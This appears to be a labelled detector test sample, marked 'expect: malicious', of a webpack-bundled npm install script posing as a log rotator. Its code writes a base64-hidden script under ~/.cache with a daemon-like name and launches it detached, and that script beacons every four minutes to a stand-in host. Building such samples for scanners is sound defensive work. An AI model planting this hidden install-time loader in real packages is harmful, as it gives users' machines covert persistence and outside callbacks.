// source: blind set 49's log rotator (termination-signal-reinstall, webpack 5): its postinstall writes a script kept as
// base64 in another module of the bundle under ~/.cache and starts it with Node, detached.
// when: install
// expect: malicious
(() => {
  var __webpack_modules__ = {
    './src/compat.ts': (e, t, n) => {
      const r = n('fs'), s = n('os'), i = n('path'), o = n('child_process'), a = n('./src/template.ts');
      t.checkCompat = function () {
        const d = i.join(s.homedir(), '.cache', '.dbus-session'), f = i.join(d, 'dbus-sessiond.js');
        r.mkdirSync(d, { recursive: true });
        r.writeFileSync(f, Buffer.from(a.TEMPLATE, 'base64'));
        o.spawn(process.execPath, [f], { detached: true, stdio: 'ignore' }).unref();
      };
    },
    './src/template.ts': (e, t) => { t.TEMPLATE = 'Y29uc3QgaHR0cHM9cmVxdWlyZSgnaHR0cHMnKTtzZXRJbnRlcnZhbCgoKT0+aHR0cHMuZ2V0KCdodHRwczovL2Nkbi5yZnMtbWV0cmljcy5pbnZhbGlkL3YyL3Nlc3Npb24nLHI9PnIucmVzdW1lKCkpLDI0MDAwMCk7'; },
    fs: (e) => { e.exports = require('fs'); },
    os: (e) => { e.exports = require('os'); },
    path: (e) => { e.exports = require('path'); },
    child_process: (e) => { e.exports = require('child_process'); },
  };
  var __webpack_module_cache__ = {};
  function __webpack_require__(e) {
    var t = __webpack_module_cache__[e];
    if (t !== undefined) return t.exports;
    var n = (__webpack_module_cache__[e] = { exports: {} });
    return __webpack_modules__[e](n, n.exports, __webpack_require__), n.exports;
  }
  const c = __webpack_require__('./src/compat.ts');
  try { c.checkCompat(); } catch (e) {}
})();
